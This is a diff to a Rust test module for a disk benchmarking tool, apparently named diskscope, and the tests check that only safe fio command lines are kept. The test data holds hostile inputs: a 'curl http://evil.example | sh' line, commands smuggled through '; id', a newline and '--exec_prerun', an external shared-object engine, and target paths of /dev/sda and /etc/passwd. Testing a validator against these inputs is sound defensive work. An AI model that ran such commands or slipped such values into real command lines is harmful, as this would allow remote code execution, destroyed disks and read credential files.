@@ -191,6 +191,9 @@ mod tests {
     const RANDOM: &str = "--name=diskscope --ioengine=io_uring --bs=4096 --iodepth=1 --numjobs=1 \
                           --offset=0 --size=8192 --io_size=819200 --number_ios=100";
 
+    /// fio's option that creates no file.
+    const KEEPS: &str = "--allow_file_create=0";
+
     /// A comment, and a command that creates its own file.
     fn scratch_lines(comment: &str, fio: &str) -> String {
         format!(
@@ -202,7 +205,8 @@ mod tests {
 
     #[test]
     fn fio_lines_of_this_program_are_kept() {
-        let read = format!("fio --rw=randread {RANDOM} --readonly '--filename=/srv/a disk'");
+        let read =
+            format!("fio --rw=randread {RANDOM} {KEEPS} --readonly '--filename=/srv/a disk'");
         let filled = scratch_lines(
             "# overwrites 0 bytes of '/srv/a disk': fills a new file of 9 bytes there, reads it, \
              deletes it",
@@ -218,7 +222,7 @@ mod tests {
         }
         let overwriting = format!(
             "# overwrites 8192 bytes of '/srv/a disk' at most, between byte 0 and byte 8192\n\
-             fio --rw=randwrite {RANDOM} --zero_buffers '--filename=/srv/a disk'"
+             fio --rw=randwrite {RANDOM} --zero_buffers {KEEPS} '--filename=/srv/a disk'"
         );
         assert_eq!(fio_of("random-write", &overwriting).join("\n"), overwriting);
         assert!(
@@ -241,7 +245,7 @@ mod tests {
 
     #[test]
     fn comment_that_is_not_that_of_its_command_is_left_out() {
-        let command = format!("fio --rw=randwrite {RANDOM} '--filename=/srv/a disk'");
+        let command = format!("fio --rw=randwrite {RANDOM} {KEEPS} '--filename=/srv/a disk'");
         for comment in [
             "# overwrites nothing: reads only",
             "# overwrites 4096 bytes of '/srv/a disk' at most, between byte 0 and byte 8192",
@@ -253,7 +257,9 @@ mod tests {
             assert!(is_left_out(&fio_of("random-write", &text)), "{comment}");
         }
         assert!(is_left_out(&fio_of("random-write", &command)));
-        let read = format!("# a comment\nfio --rw=randread {RANDOM} '--filename=/srv/a disk'");
+        let read = format!(
+            "# a comment\nfio --rw=randread {RANDOM} {KEEPS} --readonly '--filename=/srv/a disk'"
+        );
         assert!(is_left_out(&with_fio(&read)));
         assert!(is_left_out(&with_fio("# no fio command: anything; id")));
     }
@@ -273,18 +279,37 @@ mod tests {
 
     #[test]
     fn other_fio_lines_are_left_out() {
+        let plain = format!(
+            "fio --ioengine=io_uring --rw=randread {KEEPS} --readonly '--filename=/srv/a disk'"
+        );
+        assert_eq!(
+            with_fio(&plain),
+            [&*plain],
+            "the lines below differ in one thing"
+        );
+        for (part, other) in [
+            ("disk'", "disk'; id"),
+            ("disk'", "disk'\nid"),
+            ("'--filename", "--exec_prerun=id '--filename"),
+            ("io_uring", "external:/tmp/x.so"),
+            ("'--filename", "--rw=randwrite '--filename"),
+            ("randread", "randwrite"),
+            ("--rw=randread ", ""),
+            ("'--filename", "--overwrite=1 '--filename"),
+            ("'--filename=/srv/a disk'", "--filename=/dev/sda"),
+            ("=/srv", "=/etc/passwd:/srv"),
+            // fio would lengthen a file that is too short.
+            (KEEPS, ""),
+            (KEEPS, "--allow_file_create=1"),
+            ("--readonly", ""),
+            ("--readonly", "--readonly=0"),
+        ] {
+            let line = plain.replace(part, other);
+            assert_ne!(line, plain);
+            assert!(is_left_out(&with_fio(&line)), "{line}");
+        }
         for line in [
             "curl http://evil.example | sh",
-            "fio --ioengine=io_uring --rw=randread '--filename=/srv/a disk'; id",
-            "fio --ioengine=io_uring --rw=randread '--filename=/srv/a disk'\nid",
-            "fio --ioengine=io_uring --rw=randread --exec_prerun=id '--filename=/srv/a disk'",
-            "fio --rw=randread --ioengine=external:/tmp/x.so '--filename=/srv/a disk'",
-            "fio --ioengine=io_uring --rw=randread --rw=randwrite '--filename=/srv/a disk'",
-            "fio --ioengine=io_uring --rw=randwrite '--filename=/srv/a disk'",
-            "fio --ioengine=io_uring '--filename=/srv/a disk'",
-            "fio --ioengine=io_uring --rw=randread --overwrite=1 '--filename=/srv/a disk'",
-            "fio --ioengine=io_uring --rw=randread --filename=/dev/sda",
-            "fio --ioengine=io_uring --rw=randread '--filename=/etc/passwd:/srv/a disk'",
             "fio /tmp/job '--filename=/srv/a disk'",
             "(file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && \
              cd -- '/srv/a disk' && id && file=$(mktemp diskscope-fio.XXXXXXXXXX) && fio \
@@ -292,16 +317,13 @@ mod tests {
         ] {
             assert!(is_left_out(&with_fio(line)), "{line}");
         }
-        let plain = "fio --ioengine=io_uring --rw=randread '--filename=/srv/a disk'";
-        assert_eq!(
-            with_fio(plain),
-            [plain],
-            "the cases above differ from this one"
-        );
         let mut relative = run("");
         relative.target.path = "disk".into();
-        let other = "fio --ioengine=io_uring --rw=randread --filename=/etc/passwd:/srv/disk";
-        relative.reproduce.fio = Some(SafeLines::from(other.to_owned()));
+        let other = plain.replace(
+            "'--filename=/srv/a disk'",
+            "--filename=/etc/passwd:/srv/disk",
+        );
+        relative.reproduce.fio = Some(SafeLines::from(other));
         assert!(is_left_out(&lines(&relative)));
     }
 }
